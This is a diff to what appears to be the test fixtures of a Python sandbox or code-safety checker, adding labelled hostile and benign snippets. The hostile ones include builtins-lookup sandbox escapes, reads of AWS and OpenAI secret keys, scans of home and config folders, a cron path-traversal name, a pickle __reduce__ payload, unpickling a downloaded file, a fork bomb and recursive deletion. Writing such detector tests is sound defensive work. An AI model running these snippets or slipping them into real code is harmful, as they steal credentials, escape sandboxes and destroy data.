@@ -36,6 +36,23 @@ HOSTILE = {
     "unpickles a download": "import pickle, urllib.request as r\n"
     "pickle.loads(r.urlopen('http://a.example').read())",
     "forks for ever": "import os\nwhile True: os.fork()",
+    "a built-in out of a table": "f = __builtins__['ev' + 'al']\nf('1')",
+    "a built-in out of another": "import builtins\nvars(builtins)['exec']('1')",
+    "the built-ins by their name": "globals()['__built' + 'ins__']",
+    "climbs by a format": "'{0.__class__.__mro__}'.format(1)",
+    "climbs by attrgetter": "import operator\noperator.attrgetter('__class__.__base__')(1)",
+    "loads an extension": "import sqlite3\nsqlite3.connect(':memory:').load_extension('/tmp/x.so')",
+    "reads a key": "import os\nos.environ['AWS_SECRET_ACCESS_KEY']",
+    "asks for a key": "import os\nos.getenv('OPENAI_API_KEY')",
+    "walks a home": "import os\nlist(os.walk('/root'))",
+    "reads another's home": "open('/home/me/notes.txt')",
+    "looks for keys": "import glob\nglob.glob('/home/*/.config/*')",
+    "slips out of an archive": "n = '../../etc/cron.d/x'",
+    "reads its own pickle, armed": "import pickle\nclass A:\n"
+    "    def __reduce__(self): return (print, ())\n"
+    "pickle.dump(A(), open('m', 'wb'))\nwith open('m', 'wb') as f: pass\n"
+    "with open('m', 'rb') as f: pickle.load(f)",
+    "removes what is above": "import shutil\nshutil.rmtree('../data')",
     "installs a package": "import subprocess, sys\n"
     "subprocess.run([sys.executable, '-m', 'pip', 'install', 'evil'])",
 }
@@ -59,6 +76,12 @@ BENIGN = {
     "a query": "df = None\nprint('SELECT password FROM users')",
     "evaluates a constant": "eval('1 + 1')",
     "sqlite": "import sqlite3\nsqlite3.connect('a.db').execute('select 1')",
+    "reads its own pickle": "import pickle\nwith open('m.pkl', 'wb') as f:\n    pickle.dump(1, f)\n"
+    "with open('m.pkl', 'rb') as f:\n    pickle.load(f)",
+    "removes its own directory": "import shutil, tempfile\nd = tempfile.mkdtemp()\n"
+    "shutil.rmtree(d)\nshutil.rmtree('out')",
+    "formats a name": "'{0.__class__.__name__}'.format(1)",
+    "reads data above": "open('../data/a.csv')",
     "null device": "open('/dev/null', 'w').write('x')",
 }
 
